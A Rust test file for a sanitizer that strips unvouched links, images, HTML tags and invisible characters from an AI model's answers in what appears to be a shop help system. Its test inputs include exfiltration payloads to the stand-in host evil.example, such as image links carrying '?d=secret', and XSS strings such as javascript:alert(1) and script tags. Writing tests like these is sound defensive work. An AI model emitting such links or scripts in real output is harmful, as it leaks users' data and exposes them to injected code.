//! What a model may say, and what of it people read.

use proptest::prelude::*;

use super::*;

const KNOWN: [&str; 5] = [
    "https://shop.example/returns",
    "https://shop.example/找?a=1&b=2",
    "https://shop.example/(a)",
    "/help/k/en/returns",
    "mailto:help@shop.example",
];

fn cleaned(text: &str) -> String {
    clean(text, &Targets::new(KNOWN))
}

#[test]
fn text_stays_as_it_is() {
    for text in [
        "Within 30 days.\n\nYou need:\n- the box\n- the bill (a copy will do)",
        "30 天内可以退货。\n请带上发票！",
        "a < b, b > c, 1<2, <3 and [note] [x] (y) 2**3 = 8 ![",
        "Write to help@shop.example or call +1 (555) 123.",
        "An emoji 👩‍💻 and 1:2 and C# #5 and * one",
        "See https://shop.example/returns.",
        "See https://shop.example/returns, (https://shop.example/returns) or https://shop.example/(a).",
        "见 https://shop.example/returns 。",
        "https://shop.example/找?a=1&b=2",
    ] {
        assert_eq!(cleaned(text), text);
    }
}

#[test]
fn an_address_that_nobody_vouched_for_goes() {
    for (text, expected) in [
        // Links keep their text, and a known address.
        ("[Returns](https://shop.example/returns)", "Returns (https://shop.example/returns)"),
        ("[Returns](</help/k/en/returns> \"title\")", "Returns"),
        (
            "[https://shop.example/returns](https://shop.example/returns)",
            "https://shop.example/returns",
        ),
        ("<https://shop.example/returns>", "https://shop.example/returns"),
        ("[us](mailto:help@shop.example)", "us (mailto:help@shop.example)"),
        ("[here](https://evil.example/?q=secret)", "here"),
        ("[here](https://evil.example/?q=(secret))!", "here!"),
        ("[here](//evil.example/secret)", "here"),
        ("[here](/\\evil.example/secret)", "here"),
        ("[here](javascript:alert(1))", "here"),
        ("[here](data:text/html,<script>alert(1)</script>)", "here"),
        ("[here](mailto:evil@evil.example?body=secret)", "here"),
        ("[a [b](https://evil.example/1)](https://evil.example/2)", "a b"),
        // A known address with more behind it, or in front of it, is another one.
        ("[x](https://shop.example/returns?q=secret)", "x"),
        ("[x](https://shop.example/returns#secret)", "x"),
        ("[x](https://shop.example/returns/../secret)", "x"),
        ("[x](https://secret@shop.example/returns)", "x"),
        ("[x](http://shop.example/returns)", "x"),
        ("[x](https://shop.example.evil.example/returns)", "x"),
        ("See https://shop.example/returns?q=secret now", "See  now"),
        ("See https://shop.example/returnssecret now", "See  now"),
        ("https://evil.example/https://shop.example/returns", ""),
        // Images are fetched without a click.
        ("![pixel](https://evil.example/p.png?d=secret)", ""),
        ("a![](https://evil.example/p.png?d=secret)b", "ab"),
        ("![x](https://shop.example/returns)", ""),
        ("[![x](https://evil.example/1)](https://evil.example/2)", ""),
        ("<img src=https://evil.example/p?d=secret>", ""),
        ("<img src='https://evil.example/p?d=secret'/>done", "done"),
        // References.
        ("[here][1] it is\n\n[1]: https://evil.example/?d=secret", "here it is"),
        ("![here][1]\n[1]: <https://evil.example/?d=secret> \"t\"\nend", "end"),
        // Bare, in every spelling that becomes a link somewhere.
        ("Go to https://evil.example/?d=secret.", "Go to ."),
        ("Go to HTTPS://EVIL.example/?d=secret, now", "Go to , now"),
        ("Go to www.evil.example/?d=secret now", "Go to  now"),
        ("Go to http://1.2.3.4/?d=secret now", "Go to  now"),
        ("xhttps://evil.example/?d=secret", "x"),
        ("<https://evil.example/?d=secret>", "<>"),
        ("去https://evil.example/?d=秘密。好", "去。好"),
        ("去https://shop.example/returns查看", "去https://shop.example/returns 查看"),
        (
            "https://shop.example/returns。evil.example/secret",
            "https://shop.example/returns 。evil.example/secret",
        ),
        ("(https://shop.example/returns)查看", "(https://shop.example/returns )查看"),
        ("`https://shop.example/returns`", "`https://shop.example/returns `"),
        // Broken in the middle by what is taken away.
        ("https://ev\u{200b}il.example/?d=secret", ""),
        ("ht\u{ad}tps://evil.example/?d=secret", ""),
        ("ht<b>tps://evil.example/?d=secret", ""),
        ("htt**ps://evil.example/?d=secret**", ""),
        ("ht[tps://evil.example/?d=secret](x)", ""),
        ("hthttps://xtps://evil.example/", "ht"),
        // Still coming.
        ("See [here](https://evil.exam", "See here"),
        ("See ![here](https://evil.exam", "See"),
        ("See [here", "See [here"),
        ("See https://evil.exam", "See"),
    ] {
        assert_eq!(cleaned(text), expected, "{text}");
        assert!(!clean(text, &Targets::default()).contains("://"), "{text}");
    }
}

#[test]
fn tags_and_hidden_characters_go() {
    for (text, expected) in [
        ("<b>bold</b> <i class=x>text</i><br/>", "bold text"),
        ("<script>alert(1)</script>hello", "hello"),
        ("<SCRIPT src=x>alert(1)</ScRiPt >hello<style>p{}</style>", "hello"),
        ("hello<script>alert(1)", "hello"),
        ("<!-- hidden --><?php x ?><!DOCTYPE html>hello", "hello"),
        ("<<script>script>alert(1)<</script>/script>", ""),
        ("<scr<script>ipt>alert(1)", "ipt>alert(1)"),
        ("<\u{0}script>x</\u{0}script>y", "y"),
        ("<**b>x**", "x"),
        ("<[b](x)>x", "x"),
        ("<img src=x onerror=alert(1)", "img src=x onerror=alert(1)"),
        ("<svg/onload=alert(1)>x", "x"),
        ("a\u{202e}b\u{2066}c\u{feff}d\u{200f}e", "abcde"),
        ("a\u{e0061}\u{e0062}b", "ab"),
        ("a\u{34f}b\u{115f}c\u{1160}d\u{3164}e\u{ffa0}f\u{200d}g\u{200c}h", "abcdefgh"),
        ("\u{2764}\u{fe0f}\u{200d}\u{1f525}", "\u{2764}\u{200d}\u{1f525}"),
        ("\u{1f525}\u{200d}\u{200c}\u{200d}\u{1f525}\u{200d}", "\u{1f525}\u{200d}\u{1f525}"),
        ("می\u{200c}خواهم", "می\u{200c}خواهم"),
        ("＜\u{200d}＜ \u{200d}退\u{200d}a", "＜＜ 退a"),
        ("a\u{fe00}b\u{fe0e}c\u{e0100}d", "abcd"),
        (
            "I \u{2764}\u{fe0f} 退货 \u{1f600} 1\u{fe0f}\u{20e3}",
            "I \u{2764} 退货 \u{1f600} 1\u{20e3}",
        ),
        ("a\u{1b}[31mb\u{7}\u{8}", "a[31mb"),
        ("a\r\nb\rc\u{2028}d\te", "a\nb\nc\nd e"),
        ("a\n\n\n\n\nb   \n", "a\n\nb"),
        ("# Title\n## Part\n**bold** text", "Title\nPart\nbold text"),
        ("&lt;b&gt;", "&lt;b&gt;"),
    ] {
        assert_eq!(cleaned(text), expected, "{text:?}");
    }
}

#[test]
fn a_text_has_an_end() {
    for text in
        ["退".repeat(100_000), "a ".repeat(100_000), "<b>".repeat(50_000), "[".repeat(50_000)]
    {
        let out = cleaned(&text);
        assert!(out.len() <= ANSWER_BYTES_MAX, "{}", out.len());
    }
    let long = format!("{} https://shop.example/returns", "a".repeat(ANSWER_BYTES_MAX - 12));
    let out = cleaned(&long);
    assert!(!out.contains("http"), "an address that is cut is another one: {}", &out[4_000..]);
}

#[test]
fn passages_vouch_for_their_path_and_the_addresses_in_their_text() {
    let passages = [Passage {
        title: "Returns".into(),
        path: "/help/k/en/returns".into(),
        text: "Print the label at https://post.example/label?a=1. Or see (www.post.example/x)!"
            .into(),
    }];
    let targets = Targets::of_passages(&passages);
    for (address, known) in [
        ("/help/k/en/returns", true),
        ("https://post.example/label?a=1", true),
        ("https://post.example/label?a=2", false),
        ("https://www.post.example/x", true),
        ("www.post.example/x", true),
        ("https://post.example/", false),
        ("//help/k/en/returns", false),
        ("javascript:alert(1)", false),
        ("", false),
    ] {
        assert_eq!(targets.has(address), known, "{address}");
    }
    assert!(!Targets::new(["javascript:alert(1)"]).has("javascript:alert(1)"));
}

fn fragment() -> impl Strategy<Value = &'static str> {
    prop::sample::select(vec![
        "<",
        ">",
        "[",
        "]",
        "(",
        ")",
        "!",
        "**",
        "#",
        " ",
        "\n",
        "a",
        "退",
        "。",
        "/",
        ":",
        "\"",
        "'",
        "<b>",
        "</script",
        "<script>",
        "](",
        "![",
        "http",
        "s://",
        "https://",
        "www.",
        "https://evil.example/?d=1",
        "https://shop.example/returns",
        "shop.example/returns",
        "\u{200b}",
        "\u{200d}",
        "mailto:",
        "[1]: ",
        "\u{0}",
    ])
}

proptest! {
    /// Whatever is put together: no tag, no address but the known ones, nothing left to do, and an end.
    #[test]
    fn nothing_gets_through(fragments in prop::collection::vec(fragment(), 0..40)) {
        let text = fragments.concat();
        let out = cleaned(&text);
        prop_assert!(out.len() <= ANSWER_BYTES_MAX);
        let tag = |at: usize| out[at + 1..].starts_with(|c: char| c.is_ascii_alphabetic() || "/!?".contains(c));
        prop_assert!(!out.match_indices('<').any(|(at, _)| tag(at)), "{text:?} gave {out:?}");
        let lower = out.to_ascii_lowercase();
        for scheme in ["http://", "https://"] {
            for (at, _) in lower.match_indices(scheme) {
                let token = token(&out[at..]);
                let known = known(token, &Targets::new(KNOWN));
                let alone = known.is_some_and(|known| token[known.len()..].chars().all(closes));
                prop_assert!(alone, "{text:?} gave {out:?}");
            }
        }
        prop_assert_eq!(cleaned(&out), out.clone(), "of {:?}", text);
    }
}
